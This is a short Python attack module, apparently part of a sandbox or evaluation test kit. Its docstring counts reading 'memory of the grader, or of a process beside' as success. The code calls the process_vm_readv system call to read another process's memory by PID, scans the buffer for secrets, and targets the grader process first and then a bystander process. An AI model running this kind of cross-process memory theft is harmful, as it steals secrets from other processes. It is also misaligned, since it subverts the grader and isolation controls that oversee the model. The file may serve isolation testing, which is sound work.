"""Success: memory of the grader, or of a process beside."""

import ctypes
import os

from kit import secrets_in, system_call, tries


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def read(pid, address, length):
    buffer = ctypes.create_string_buffer(length)
    here = Vector(ctypes.addressof(buffer), length)
    there = Vector(address, length)
    system_call("process_vm_readv", pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return secrets_in(buffer.raw)


def attack(a):
    return tries(
        lambda: read(a["grader_pid"], a["grader_address"], a["length"]),
        lambda: read(a["bystander_pid"], a["bystander_address"], a["length"]),
    )
